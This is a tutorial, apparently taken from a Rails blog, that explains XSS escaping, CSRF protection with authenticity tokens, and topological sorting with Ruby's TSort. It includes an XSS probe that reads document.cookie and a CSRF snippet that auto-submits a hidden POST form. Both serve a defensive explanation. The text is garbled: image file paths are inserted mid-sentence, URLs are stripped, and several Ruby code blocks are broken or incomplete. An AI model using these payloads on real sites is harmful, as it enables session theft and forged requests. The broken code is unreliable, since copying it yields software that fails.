Well there is only way to prevent it. And that is donot send <script> tag to the browser. If we send <script> tag to the browser then browser will execute that JavaScript.

So what can we do so that <script> tag is not sent to the browser.

Rails default behavior is to keep things secure

Before we start looking at solutions lets revisit what happened when earlier we did not mark content as html_safe. So let’s remove html_safe and lets try to see the content posted by the hacker.

So the code without html_safe would look like this.

array = [name, address1, address2, city_name state_name, zip, country_name]
array.compact.join('<br />')

And if we execute this code then hackers address would look like this.

John Smith<br /><script>alert(document.cookie)</script><br />Suite #110<br />Miami<br />FL<br />33027<br />USA

Notice that in this case no JavaScript alert was seen. Hacker gets to see the addresshacker had posted. Why is that. To answer that let’s look at the html markup.

John Smith<br /><script>alert(document.cookie)</script><
br />Suite #110<br />Miami<br />FL<br />33027<br />USA

As we can see Rails did not render the address exactly as it was posted by the hacker. Rails did something because of which <script> turned into <script>.

Rails html escaped the content by using method html_escape.

By default Rails assumes that all content is not safe and thus Rails subjects all content to html_escape method.

Problem is that here we are trying to format the content using <br /> and Rails is escaping that also. We need to escape only the user content and not escape <br />. Here is how we can do that.

array = [name, address1, address2, city_name, state_name, zip, country_name]{ |i| ERB::Util.html_escape(i) }.join('<br />').html_safe

In the above case we are marking the content as html_safe because we subjected the content through html_escape and now we are sure that no unescaped user content can go through.

This will show address in the browser like this.


Above solution worked. <br /> is not escaped and user input was properly escaped.

Another solution using content_tag

In the above case we used html_escape and it worked. However if we need to add say <strong> tag then adding the opening tag and then closing tag could be quite cumbersome. For such cases we can use content_tag

By default content_tag escapes the input text.

array = [name, address1, address2, city_name, state_name, zip, country_name]{ |i| ActionController::Base.helpers.content_tag(:strong, i) }.join('').html_safe

simple_format for simple formattingIf you want to format the text a little bit then you can use simple_format . If user enters a bunch of text in text area then simple_format can help make the text look pretty without compromising security. It will strip away <script> and security sensitive tags. html_escape internally uses sanitize method. Note that simple_format will remove script tag while solutions like html_escape will preserve script tag in escaped format.

Handling JSON data

We use jbuilder and view looks like this.

json.user do
  json.address1 @user.address1
  json.address2 @user.address2
  json.city_name @user.city_name
  json.state_name @user.state_name
  json.country_name @user.country_name

This will produce JSON structure as shown below.


On the client side there is JavaScript code to display the content. $('body').append(data.about) does the job. Well when that content is added to DOM then browser will execute JavaScript code and now we are back to the same problem.There are two ways we can handle this problem. We can send the data as it is in JSON format. Then it is a responsibility of client side JavaScript code to append data in such a way that html tags like script are not executed.

jQuery provides text(input) method which escapes input value. Here is an example.

jquery text

In this case the entire responsibility of escaping the content rests on JavaScript. While using the data JavaScript code constantly needs to be aware of which content is user input and must be escaped and which content is not user input.

That is why we favor the solution where JSON content is escaped to begin with. For escaping the content we can use h or html_escape helper method.

json.user do h(
  json.address1 h(@user.address1)
  json.address2 h(@user.address2)
  json.city_name h(@user.city_name)
  json.state_name h(@user.state_name) h(
  json.country_name h(@user.country_name)


As you can see the user content is escaped. Now this data can be sent to client side and we do not need to worry about script tag being executed.CSRF and Rails

CSRF stands for Cross-site request forgery. It is a technique hackers use to hack into a web application.

Unlike XSS CSRF doesnot try to steal your information to log into the system. CSRFassumes that you are already logged in at your site and when you visit say comments section of some other site then an attack is done on your site without you knowing it.

Here is how it might work.

  • You log in at .
  • Now you open a new tab and you are visiting since you areinterested in gardening.
  • You are browsing the commentsposted on the forum. One of the comments posted has url which has source like this <img src="" />
  • Now if you are the admin of the project “123” in then unknowingly you have granted admin access to user 1. And you did not even know that you did that.

I know you are thinking that loading an image will make a GET requestand granting access is hidden behind POST request. So you are safe. Well the hacker can easily change code to make a POST request. In that case the code might look like this

 var url = "";
 document.write('<form name=hack method=post action='+url+'></form>')
<img src='' onLoad="document.hack.submit()" />

Now when the image is loaded then a POST request is sent to the server and the application might grant access to this new user. Not good.


In order to prevent such things from happening Rails uses authenticity_token.

If you look at sourcecode of any form generated by Rails you will see that form contains following code

<input name="authenticity_token"
       value="LhT7dqqRByvOhJJ56BsPb7jJ2p24hxNu6ZuJA+8l+YA=" />

The exact value of the authenticity_token will be different for you. When form is submitted then authentication_token is submitted and Rails checks the authenticity_token and only when it is verified the request is passed along for further processing.

In a brand new rails application the application_controller.rb has only one line.

class ApplicationController < ActionController::Base

That line protect_from_forgery checks for the authentication of the incoming request.

Here is code that is responsible for generating csrf_token.

# Sets the token value for the current session.
def form_authenticity_token
  session[:_csrf_token] ||= SecureRandom.base64(32)Since this csrf_token is a random value there is no way for hacker to know what the “csrf_token” is for my session. And hacker will not be able to pass the correct “authenticity_token”.

Do keep in mind that this protection is applied only to POST, PUT and DELETE requests by Rails. Rails states that GET should not be changing database in the first place so no need for check for authenticity of the token.

Update for Rails 4

If you generate a brand new Rails application using Rails 4 then the application_controller.rb would look like this

class ApplicationController < ActionController::Base
  # Prevent CSRF attacks by raising an exception.
  # For APIs, you may want to use :null_session instead.
  protect_from_forgery with: :exception

Now the default value is to raise an exception if the token is not matched. The API calls will not have the token. If the application is expecting api calls then the strategy should be changed from :exception to :null_session.

Note that if the site is vulnerable to XSS then the hacker submits request as if he is logged in and in that case the CSRF attack will go through.

tsort in ruby and rails initializers

You have been assigned the task of figuring out in what order following tasks should be executed given their dependencies on other tasks.

Task11 takes input from task5 and task7.
Task10 takes input from task11 and task3.
Task9 takes input from task8 and task11.
Task8 takes input from task3 and task7.
Task2 takes input from task11.

If you look at these tasks and draw a graph then it might look like this.directed acyclic graph

Directed acyclic graph

The graph shown above is a “Directed acyclic graph” . In Directed acyclic graphs if you start following the arrow then you should never be able to get to the node from where you started.

Directed acyclic graphs are great at describing problems where a task is dependent on another set of tasks.

Westarted off with a set of tasks that are dependent on another set of tasks. To get the solution we need to sort the tasks in such a way that first task is not dependent on any task and the next task is only dependent on task previously done. So basically we need to sort the directed acyclic graph such that the prerequisites are done before getting to the next task.

Sorting of directed acyclic graph in the manner described above is called topological sorting .


Ruby provides TSort which allows us to implement “topological sorting”. Here is source code or tsort .

Lets write code to find solutionto the original problem.

require "tsort"

class Project
  include TSort

  def initialize
    @requirements ={|h,k| h[k] = []}

  def add_requirement(name, *requirement_dependencies)
    @requirements[name] = requirement_dependencies

  def tsort_each_node(&block)

  def tsort_each_child(name, &block)
    @requirements[name].each(&block) if @requirements.has_key?(name)


p =
p.add_requirement(:r2, :r11)
p.add_requirement(:r8, :r3, :r7)
p.add_requirement(:r9, :r8, :r11)
p.add_requirement(:r10, :r3, :r11)
p.add_requirement(:r11, :r7, :r5)

puts p.tsortIf I execute above code in ruby 1.9.2 I get following result.


So that is the order in which tasks should be executed .

How Tsort works

tsort requires that following two methods must be implemented.

#tsort_each_node - as the name suggests it is used to iterate over all the nodes in the graph. In the above example all the requirements are stored as a hashkey . So to iterate over all the nodes we need to go through all the hash keys. And that can be done using #each_key method of hash.

#tsort_each_child - this method is used to iterate over all the child nodes for the given node. Since this is directed acyclic graph all the child nodes are the dependencies. We stored all the dependencies of a project as an array. So to get the list of all the dependencies for a node all we need to do is @requirements[name].each.

Another example

To make things clearer lets try to solve the same problem ina different way.

require "tsort"

class Project
  attr_accessor :dependents, :name
  def initialize(name)
    @name = name
    @dependents = []

class Sorter
  include TSort

  def initialize(col)
    @col = coldef tsort_each_node(&block)

  def tsort_each_child(project, &block) { |i| == }.first.dependents.each(&block)

r2  = :r2
r3  = :r3
r5  = :r5
r7  = :r7
r8  = :r8
r9  = :r9
r10 = :r10
r11 = :r11

r2.dependents << r11

r8.dependents << r3
r8.dependents << r7

r9.dependents << r8
r9.dependents << r11

r10.dependents << r3
r10.dependents << r11

r11.dependents << r7
r11.dependents << r5

col = [r2, r3, r5, r7, r8, r9, r10, r11]

result =

When I execute the above code this is the result I get[:r7, :r5, :r11, :r2, :r3, :r8, :r9, :r10]

If you look at the code here I am doing exactly the same thing as in the first case.

Using before and after option

Let’s try to solve the same problem one last time using before and after option. Here is thecode.

